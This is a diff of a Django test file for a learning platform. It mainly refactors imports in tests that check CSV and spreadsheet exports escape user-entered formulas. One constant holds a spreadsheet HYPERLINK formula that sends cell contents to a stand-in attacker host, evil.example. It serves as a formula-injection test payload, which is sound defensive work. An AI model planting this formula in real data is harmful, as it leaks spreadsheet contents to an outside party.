@@ -10,18 +10,18 @@ from openpyxl import load_workbook
 from wagtail.contrib.redirects.models import Redirect
 from wagtail.models import GroupApprovalTask, ModelLogEntry, Page, PageLogEntry, Workflow, WorkflowTask
 
-from learning.activities import enrolling
 from learning.activities.choices import Source
+from learning.activities.enrolment import actions as enrolment_actions
 from learning.activities.models import Activity, Consent, DeclaredFigure, Enrolment, Theme
 from learning.certificates.models import Certificate
+from learning.core.files.spreadsheets import FORMULAS
 from learning.media.models import Recording
-from learning.people import auditing
+from learning.people import audit_log
 from learning.people.models import Organisation, Person
-from learning.spreadsheets import FORMULAS
 from tests.permissions.fillings import address_of
 from tests.permissions.walking import listings
 from tests.permissions.whole_table import TABLE
-from tests.reports.reading import LISTINGS
+from tests.reports.screen_parser import LISTINGS
 
 pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Ana")'
@@ -78,7 +78,7 @@ def dress(world, formula):
     Consent.objects.create(person=world.person, purpose="newsletter", given_at=timezone.now())
     Enrolment.objects.filter(pk=world.enrolment.pk).update(country="CO")
     officer, details = world.accounts["officer"], {"filters": [formula]}
-    auditing.record(auditing.Action.MERGED, officer, world.person, reason=formula, details=details)
+    audit_log.record(audit_log.Action.MERGED, officer, world.person, reason=formula, details=details)
 
 
 def submit_for_moderation(world, formula):
@@ -138,5 +138,7 @@ def test_what_people_write_about_themselves_comes_out_as_text(as_officer, offici
     """From the form to the file."""
     official.person.name = FORMULA
     official.person.save()
-    enrolling.enrol(Activity.objects.create(title="Care", kind="webinar"), official.person, source=Source.OFFICER)
+    enrolment_actions.enrol(
+        Activity.objects.create(title="Care", kind="webinar"), official.person, source=Source.OFFICER
+    )
     assert f"'{FORMULA}" in cells(as_officer.get("/admin/persons/?export=csv"))
